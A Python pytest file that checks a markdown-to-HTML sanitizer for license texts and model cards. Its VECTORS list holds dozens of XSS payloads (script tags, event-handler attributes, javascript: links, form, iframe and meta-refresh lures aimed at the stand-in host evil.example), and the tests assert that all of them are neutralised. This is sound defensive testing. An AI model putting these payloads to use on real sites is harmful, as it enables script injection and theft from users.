"""Markdown made into HTML that is safe to show, and stays readable."""

import re
from html.parser import HTMLParser
from pathlib import Path

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from portal.adapters.markup import ATTRIBUTES, REL, TAGS, _without_pictures, card, markdown
from portal.clauses.rules import parse

ROOT = Path(__file__).resolve().parents[2]
VECTORS = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<img src='https://evil.example/p.gif'>",
    "![a](https://evil.example/p.gif)",
    "![a](data:image/svg+xml;base64,PHN2Zz4=)",
    "[a](javascript:alert(1))",
    "[a](JaVaScRiPt:alert(1))",
    "[a](java\tscript:alert(1))",
    "[a](&#106;avascript:alert(1))",
    "[a](data:text/html,<script>alert(1)</script>)",
    "[a](vbscript:x)",
    '<a href="jav&#x0A;ascript:alert(1)">a</a>',
    "<javascript:alert(1)>",
    "[a]: javascript:alert(1)\n\n[a]",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><use href='//evil.example/x.svg#a'/></svg>",
    "<math><mtext></p><style><img src onerror=alert(1)></style></math>",
    "<style>body{background:url(//evil.example)}</style>",
    "<p style='background:url(//evil.example)'>x</p>",
    "<iframe src=//evil.example></iframe>",
    "<object data=x></object><embed src=x>",
    "<form action=//evil.example><input name=p><button>b</button></form>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "<base href=//evil.example>",
    "<link rel=stylesheet href=//evil.example>",
    "<video src=//evil.example autoplay></video><audio src=//evil.example>",
    "<picture><source srcset=//evil.example></picture>",
    "<body onload=alert(1)>",
    "<details open ontoggle=alert(1)><summary>x</summary></details>",
    "<a href=x ping=//evil.example>a</a>",
    "x\n{: onclick=alert(1) style=color:red }",
    "# x {: onmouseover=alert(1) }",
    "`<script>alert(1)</script>`",
    "```\n<script>alert(1)</script>\n```",
    "``` {onclick=alert(1)}\nx\n```",
    "<!-- <script>alert(1)</script> -->",
    "<![CDATA[<script>x</script>]]>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'></noscript>",
    '<p title="<script>alert(1)</script>">x</p>',
    "<textarea><script>alert(1)</script></textarea>",
    "<template><script>alert(1)</script></template>",
    "<a target=_blank href=https://x.example>a</a>",
    '[x](https://a.example "onmouseover=alert(1)")',
    "[^1]\n\n[^1]: <script>alert(1)</script>",
    "| <script>x</script> |\n|---|\n| <img src=x> |",
]


class Seen(HTMLParser):
    """Every tag and attribute that a browser would see."""

    def __init__(self, html: str) -> None:
        super().__init__()
        self.tags: list[tuple[str, dict[str, str | None]]] = []
        self.feed(html)
        self.close()

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.append((tag, dict(attrs)))


def assert_safe(html: str) -> None:
    for tag, attributes in Seen(html).tags:
        assert tag in TAGS, html
        assert tag not in {"h1", "img"}, html
        assert set(attributes) <= ATTRIBUTES["*"] | ATTRIBUTES.get(tag, set()) | {"rel"}, html
        if "href" in attributes:
            assert attributes["rel"] == REL
            scheme = re.match(r"\s*([a-z][a-z0-9+.-]*):", attributes["href"] or "", re.IGNORECASE)
            assert scheme is None or scheme[1].lower() in {"http", "https", "mailto"}, html


@pytest.mark.threat("TM-31")
@pytest.mark.parametrize("text", VECTORS)
def test_nothing_runs_and_nothing_is_fetched(text: str) -> None:
    for around in (text, f"before\n\n{text}\n\nafter", f"> {text}", f"- {text}", f"<div>\n\n{text}\n\n</div>"):
        assert_safe(markdown(around))
        assert_safe(card(around))


@pytest.mark.threat("TM-31")
@settings(max_examples=150, deadline=None)
@given(
    st.lists(
        st.sampled_from([*VECTORS, "\n", "\n\n", " ", "`", "```\n", "> ", "- ", "|", "<", '">', "'", "*", "{#x}"]),
        max_size=6,
    )
)
def test_no_mixture_of_them_is_worse(parts: list[str]) -> None:
    assert_safe(markdown("".join(parts)))


@settings(max_examples=150, deadline=None)
@given(st.text(max_size=200))
def test_any_text_is_taken(text: str) -> None:
    assert_safe(markdown(text))


def test_words_survive_what_is_dropped() -> None:
    html = markdown("Before <script>alert(1)</script> between <b>bold</b> <blink>old</blink> after")
    assert "alert" not in html
    assert "between <b>bold</b> old after" in html


def test_headings_leave_the_first_level_to_the_page() -> None:
    html = markdown("# One\n\n## Two\n\n<h1>Raw</h1>\n\n###### Six\n\n`<h1>` <b title='<h1 x>'>t</b>")
    assert [tag for tag, _ in Seen(html).tags if re.fullmatch("h[1-6]", tag)] == ["h2", "h3", "h2", "h6"]
    assert "&lt;h1&gt;" in html


def test_clauses_are_anchors() -> None:
    assert markdown("### 1.1 License {#definition.license}") == '<h4 id="definition.license">1.1 License</h4>'


@pytest.mark.parametrize("path", sorted((ROOT / "licenses").rglob("*.md")), ids=lambda p: p.name)
def test_every_clause_of_a_license_is_an_anchor(path: Path) -> None:
    text = path.read_text(encoding="utf-8")
    html = markdown(text)
    assert_safe(html)
    ids = [attributes["id"] for tag, attributes in Seen(html).tags if tag == "h4"]
    assert ids == [part.key for part in parse(text)]
    assert "{#" not in html


@pytest.mark.parametrize("name", ["gate", "main", "access-token"])
def test_a_text_answers_to_no_name_of_the_page(name: str) -> None:
    assert "id=" not in markdown(f"## Mine {{#{name}}}")
    assert "id=" not in markdown(f"<div id='{name}'>x</div>")
    assert 'id="mine"' in markdown("## Mine {#mine}")


@pytest.mark.parametrize("key", ["1", "a" * 101, "a'b", "_a", "a/b"])
def test_odd_anchors_are_dropped(key: str) -> None:
    assert "id=" not in markdown(f'<div id="{key}">x</div>')


def test_what_cards_use_is_shown() -> None:
    html = markdown(
        "| a | b |\n|---|--:|\n| 1 | 2 |\n\n```python\nx < 1\n```\n\nword[^n]\n\n[^n]: note\n\n"
        "term\n: meaning\n\n1. one\n2. two\n\n> quoted\n\n**bold** *it* `code`\n\n---\n"
    )
    for part in (
        '<td align="right">2</td>', "<pre><code>x &lt; 1\n</code></pre>", 'href="#fn:n"', 'id="fn:n"', "<dt>term</dt>",
        "<ol>\n<li>one</li>", "<blockquote>", "<strong>bold</strong>", "<em>it</em>", "<code>code</code>", "<hr>",
    ):  # fmt: skip
        assert part in html


def test_markdown_inside_details_is_markdown() -> None:
    html = markdown("<details>\n<summary>More</summary>\n\n**bold**\n\n</details>\n\nafter")
    assert "<summary>More</summary>\n<p><strong>bold</strong></p>\n</details>" in html
    assert "<details open" in markdown("<details open>\n<summary>More</summary>\n</details>")
    assert "&lt;details&gt;\n" in markdown("```\n<details>\n```")
    assert markdown("```\nx\n```\n\n<details>\n**b**\n</details>").count("<strong>") == 1


def test_a_picture_is_a_link_that_nobody_has_to_follow() -> None:
    assert '<a href="https://a.example/x.png" rel="noopener nofollow ugc">Plot</a>' in markdown(
        "![Plot](https://a.example/x.png)"
    )
    assert ">picture</a>" in markdown("![](x.png)")
    badge = markdown("[![CI](https://a.example/b.svg)](https://c.example)")
    assert badge == '<p><a href="https://c.example" rel="noopener nofollow ugc">CI</a></p>'


@pytest.mark.parametrize(
    ("tag", "shown"),
    [
        ('<img src="https://a.example/x.png" alt="A plot">', '<a href="https://a.example/x.png">A plot</a>'),
        ("<IMG SRC=https://a.example/x.png>", '<a href="https://a.example/x.png">picture</a>'),
        ("""<img alt='<b> & "q"' src='/x.png'/>""", '<a href="/x.png">&lt;b&gt; &amp; "q"</a>'),
        ('<a href="https://c.example"><img src="/b.svg" alt="CI"></a>', '<a href="https://c.example">CI</a>'),
        ('<img alt="No source">', "No source"),
        ('<img src="javascript:alert(1)" alt="x">', "<a>x</a>"),
        ("`<img src=x>`", "<code>&lt;img src=x&gt;</code>"),
    ],
)  # fmt: skip
def test_a_picture_that_is_a_tag_is_a_link_as_well(tag: str, shown: str) -> None:
    assert shown in markdown(f"Look: {tag}").replace(f' rel="{REL}"', "")


@pytest.mark.timeout(60)  # looked for anew from each of them to the end, this would take hours
def test_tags_that_never_end_are_left_soon() -> None:
    for text in ('<img "' * 60_000, "<img " * 60_000, "<img '\"" * 60_000):
        assert _without_pictures(text) == text


def test_formulas_keep_their_marks_and_prices_are_none() -> None:
    html = markdown(r"From $5 to $10: $a_i * b_i * c_{\{x\}}$ and $$\sum_i x_i$$.")
    assert html == (r"<p>From $5 to $10: <code>$a_i * b_i * c_{\{x\}}$</code> and <code>$$\sum_i x_i$$</code>.</p>")


def test_a_card_has_the_anchors_that_its_contents_lead_to() -> None:
    html = card(
        '[a](#uses--limits)\n\n## Uses & Limits\n\n## Uses & Limits\n\n## Límites\n\n<a name="old"></a>\n\n## Main'
    )
    assert re.findall(r'id="([^"]*)"', html) == ["uses--limits", "uses--limits-1", "límites", "old"]
    assert "id=" not in markdown("## Uses & Limits")
    assert '<li id="risk.bias"><strong>risk.bias</strong>' in card("- **risk.bias**: It is biased.")


def test_markdown_goes_on_inside_boxes() -> None:
    html = card('<div align="center">\n\n# Title\n\n**bold**\n\n</div>\n\nafter')
    assert '<h2 id="title">Title</h2>' in html
    assert "<strong>bold</strong>" in html


@pytest.mark.parametrize(
    "text", ["مرحبا بالعالم", "你好，世界", "🌸👩‍👩‍👧", "$\\alpha_i x^2_1$", "a\u202eb", "é e\u0301", "0 < 1 & 2 > 1"]
)
def test_words_of_any_script_come_through(text: str) -> None:
    words = re.sub(r"<[^>]+>", "", markdown(text)).replace("&lt;", "<").replace("&gt;", ">").replace("&amp;", "&")
    assert words == text
    assert 'dir="rtl"' in markdown(f'<p dir="rtl">{text}</p>')


@pytest.mark.parametrize("text", ["\ud800", "a\0b", "\x02wzxhzdk:0\x03", "", "\n\n"])
def test_characters_that_are_none_do_no_harm(text: str) -> None:
    assert_safe(markdown(text))


@pytest.mark.parametrize("text", ["> " * 3000 + "x", "- " * 3000 + "x", "*" * 9000, "<b>" * 3000, "<details>\n" * 500])
def test_endless_nesting_is_shown_or_left_out_but_never_fails(text: str) -> None:
    assert_safe(markdown(text))


def test_what_nests_too_deep_is_shown_as_it_was_written() -> None:
    assert markdown("- " * 3000 + "<x>").endswith("&lt;x&gt;</pre>")


def test_the_same_text_is_rendered_once() -> None:
    markdown.cache_clear()
    assert markdown("once") is markdown("once")
    assert markdown.cache_info().hits == 1
